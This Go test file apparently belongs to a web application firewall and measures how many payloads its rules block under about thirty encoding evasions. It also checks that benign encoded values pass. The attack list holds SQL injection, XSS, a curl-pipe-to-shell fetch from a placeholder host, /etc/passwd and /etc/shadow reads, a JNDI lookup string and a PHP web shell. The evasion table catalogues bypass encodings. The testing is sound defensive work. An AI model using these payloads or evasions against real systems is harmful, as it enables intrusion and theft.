// Copyright The Durward Authors.
// SPDX-License-Identifier: Apache-2.0

package waf

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"

	"durward"
	"durward/waf/decode"
)

// attacks are plain ones of several classes, which the rules find as they are.
var attacks = []string{
	`1' OR 1=1 -- `,
	`1 UNION SELECT username, password FROM users`,
	`<script>alert(document.cookie)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`; cat /etc/passwd`,
	`$(curl http://192.0.2.9/x.sh | sh)`,
	`../../../../etc/passwd`,
	`${jndi:ldap://192.0.2.9/a}`,
	`<?php system($_GET['c']); ?>`,
	`O:8:"Exploits":1:{s:4:"file";s:11:"/etc/shadow";}`,
}

func b64(s string) string    { return base64.StdEncoding.EncodeToString([]byte(s)) }
func b64raw(s string) string { return base64.RawStdEncoding.EncodeToString([]byte(s)) }
func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
func inJSON(s string) string { b, _ := json.Marshal(map[string]any{"v": s}); return string(b) }
func each(s string, f func(c rune) string) string {
	var b strings.Builder
	for _, c := range s {
		b.WriteString(f(c))
	}
	return b.String()
}
func allEscaped(s string) string {
	return each(s, func(c rune) string { return fmt.Sprintf(`\u%04x`, c) })
}
func allPercent(s string) string {
	return each(s, func(c rune) string { return fmt.Sprintf("%%%02x", c) })
}

// evasions are classes of ways to write an attack so that a rule passes over it.
// The numbers are how many of the attacks are found by the rules alone and with
// decoding, in every place: what is published here is what holds at least. A
// class that is not found whole is told as such.
var evasions = []struct {
	class          string
	write          func(string) string
	alone, decoded int
}{
	{"plain", func(s string) string { return s }, 10, 10},
	{"base64", b64, 0, 10},
	{"base64, no padding", b64raw, 0, 10},
	{"base64url", b64url, 0, 10},
	{"base64, nested", func(s string) string { return b64(b64(s)) }, 0, 10},
	{"base64 of base64url", func(s string) string { return b64(b64url(s)) }, 0, 10},
	{"base64 in a data URI", func(s string) string { return "data:text/plain;base64," + b64(s) }, 10, 10},
	{"base64 of UTF-16", func(s string) string { return b64(each(s, func(c rune) string { return string(c) + "\x00" })) }, 0, 10},
	{"base64 of JSON", func(s string) string { return b64(inJSON(s)) }, 0, 10},
	{"JSON in a string", inJSON, 10, 10},
	{"JSON in a string, all escaped", func(s string) string { return `{"v":"` + allEscaped(s) + `"}` }, 3, 10},
	{"base64 in JSON in a string", func(s string) string { return inJSON(b64(s)) }, 0, 10},
	{"web token", func(s string) string { return b64url(`{"alg":"none","typ":"JWT"}`) + "." + b64url(inJSON(s)) + ".AAAA" }, 0, 10},
	{"percent twice", allPercent, 9, 10},
	{"percent three times", func(s string) string { return url.QueryEscape(allPercent(s)) }, 1, 10},
	{"percent and u", func(s string) string { return each(s, func(c rune) string { return fmt.Sprintf("%%u%04x", c) }) }, 9, 10},
	{"unicode escapes", allEscaped, 3, 10},
	{"hexadecimal escapes", func(s string) string { return each(s, func(c rune) string { return fmt.Sprintf(`\x%02x`, c) }) }, 3, 10},
	{"HTML entities", func(s string) string { return each(s, func(c rune) string { return fmt.Sprintf("&#x%x;", c) }) }, 3, 3},
	{"upper and lower case", func(s string) string {
		return each(s, func(c rune) string {
			if c%2 == 0 {
				return strings.ToUpper(string(c))
			}
			return string(c)
		})
	}, 10, 10},
	{"comments for spaces", func(s string) string { return strings.ReplaceAll(s, " ", "/**/") }, 10, 10},
	{"tabs and line breaks for spaces", func(s string) string { return strings.ReplaceAll(s, " ", "\t\n") }, 10, 10},
	{"full-width letters", func(s string) string {
		return each(s, func(c rune) string {
			if c > ' ' && c < 0x7f {
				return string(c + 0xfee0)
			}
			return string(c)
		})
	}, 7, 7},
	{"in base64 behind other text", func(s string) string { return "see: " + b64(s) }, 0, 0},
	{"base64, nested twice", func(s string) string { return b64(b64(b64(s))) }, 0, 0},
	{"base64 with a dot in it", func(s string) string { e := b64(s); return e[:5] + "." + e[5:] }, 0, 0},
	{"hexadecimal", func(s string) string { return fmt.Sprintf("%x", s) }, 0, 0},
	{"split over parameters of one name", func(s string) string { return s[:len(s)/2] + split + s[len(s)/2:] }, 7, 7},
	{"reversed", func(s string) string { r := []rune(s); slices.Reverse(r); return string(r) }, 1, 1},
}

// split stands where a value goes on in another parameter of the same name.
const split = "\x1f"

func pairs(name, value string) string {
	return name + "=" + strings.ReplaceAll(url.QueryEscape(value), url.QueryEscape(split), "&"+name+"=")
}

// places are where a value can stand.
var places = []struct {
	name string
	put  func(value string) *durward.Exchange
}{
	{"query", func(v string) *durward.Exchange {
		x := exchange("", "", false)
		x.In.RawQuery = "id=7&" + pairs("q", v)
		return x
	}},
	{"JSON", func(v string) *durward.Exchange {
		b, _ := json.Marshal(map[string]any{"items": []any{map[string]any{"text": strings.Split(v, split)}}, "n": 1})
		return exchange("application/json", string(b), true)
	}},
	{"form", func(v string) *durward.Exchange {
		return exchange("application/x-www-form-urlencoded", "id=7&"+pairs("text", v), true)
	}},
}

// decoder is a stage with decoding, and one without.
func decoder(t *testing.T, c decode.Config) durward.Stage {
	_, stage, _ := stages(t, unbounded(), Config{Decode: c})
	return stage
}

func TestEvasionsAreFoundAsPublished(t *testing.T) {
	alone, with := decoder(t, decode.Config{Base64: off, JSON: off, Escapes: off}), decoder(t, decode.Config{})
	t.Logf("%-32s %8s %8s   of %d attacks in %d places", "class", "rules", "decoded", len(attacks), len(places))
	for _, e := range evasions {
		byRules, byBoth := 0, 0
		for _, attack := range attacks {
			foundAlone, foundWith := true, true
			for _, p := range places {
				foundAlone = foundAlone && alone.Request(context.Background(), p.put(e.write(attack))).Code == durward.CodeWAFBlocked
				foundWith = foundWith && with.Request(context.Background(), p.put(e.write(attack))).Code == durward.CodeWAFBlocked
			}
			if foundAlone {
				byRules++
			}
			if foundWith {
				byBoth++
			} else if e.decoded == len(attacks) {
				t.Logf("not found: %s: %q", e.class, e.write(attack))
			}
		}
		t.Logf("%-32s %8d %8d", e.class, byRules, byBoth)
		if byRules < e.alone || byBoth < e.decoded {
			t.Errorf("%s: %d by the rules alone and %d with decoding; published are %d and %d", e.class, byRules, byBoth, e.alone, e.decoded)
		}
	}
}

// benignWords leave out those that are commands of Unix as well (time, sort):
// the rules take them for one in plain text too.
var benignWords = strings.Fields(`meeting notes quarterly report seat window members plans photo coin friends summary account café naïve hello 50%
	delivery chair invoice October team lunch select from where table union order by group into like or and not between the of`)

func word(r *rand.Rand) string { return benignWords[r.IntN(len(benignWords))] }

// What is no attack to the rules stays none when it is encoded: at paranoia
// level 1 not one of these may be refused that the rules alone let pass.
func TestEncodedTextThatIsNoAttackPasses(t *testing.T) {
	stage := decoder(t, decode.Config{})
	r := rand.New(rand.NewPCG(3, 4))
	random := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return string(b)
	}
	alone := decoder(t, decode.Config{Base64: off, JSON: off, Escapes: off})
	attempt := func() string {
		words := make([]string, 3+r.IntN(20))
		for i := range words {
			words[i] = word(r)
		}
		return strings.Join(words, " ") + ". It's \"ready\" (at 10:30), isn't it?"
	}
	// Text that the rules take for an attack as it is (union ... select) says
	// nothing about decoding.
	sentence := func() string {
		for {
			s := attempt()
			if alone.Request(context.Background(), places[0].put(s)).Verdict == durward.Allow {
				return s
			}
		}
	}
	kinds := []struct {
		name  string
		write func() string
	}{
		{"random keys", func() string { return b64raw(random(8 + r.IntN(40))) }},
		{"URL-safe keys", func() string { return b64url(random(8 + r.IntN(40))) }},
		{"hashes", func() string { return fmt.Sprintf("%x", random(32)) }},
		{"uuids", func() string {
			h := fmt.Sprintf("%x", random(16))
			return h[:8] + "-" + h[8:12] + "-" + h[12:16] + "-" + h[16:20] + "-" + h[20:]
		}},
		{"images", func() string {
			return b64("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random(200))
		}},
		{"text", sentence},
		{"text in base64", func() string { return b64(sentence()) }},
		{"text in base64url, nested", func() string { return b64url(b64url(sentence())) }},
		{"JSON", func() string { return inJSON(sentence()) }},
		{"JSON in base64", func() string {
			return b64(`{"page":2,"filter":{"name":"` + word(r) + `","tags":["a","b"]},"sort":["-created_at"],"q":` + inJSON(word(r)) + `}`)
		}},
		{"web tokens", func() string {
			return b64url(`{"alg":"ES256","kid":"`+b64url(random(9))+`","typ":"JWT"}`) + "." + b64url(`{"iss":"https://login.example.com/","aud":["api"],"sub":"auth0|`+fmt.Sprintf("%x", random(12))+`","scope":"read:items openid","exp":1900000000}`) + "." + b64url(random(64))
		}},
		{"cursors", func() string {
			return b64(fmt.Sprintf("created_at:2026-01-%02dT10:00:00Z,id:%d", 1+r.IntN(28), r.IntN(1e6)))
		}},
		{"escaped addresses", func() string { return url.QueryEscape("https://app.example.com/a?b=" + word(r) + "&c=1#top") }},
		{"file paths of Windows", func() string { return `C:\users\` + word(r) + `\documents\x1.txt` }},
	}
	for _, k := range kinds {
		refused, seen := 0, 0
		for range 12 {
			v := k.write()
			for _, p := range places {
				x := p.put(v)
				if d := stage.Request(context.Background(), x); d.Verdict != durward.Allow && alone.Request(context.Background(), p.put(v)).Verdict == durward.Allow {
					if refused++; refused == 1 {
						t.Errorf("%s in %s is refused: %q: %v", k.name, p.name, v, d.Err)
					}
				}
				seen++
			}
		}
		t.Logf("%-28s %4d requests, %d refused", k.name, seen, refused)
	}
}
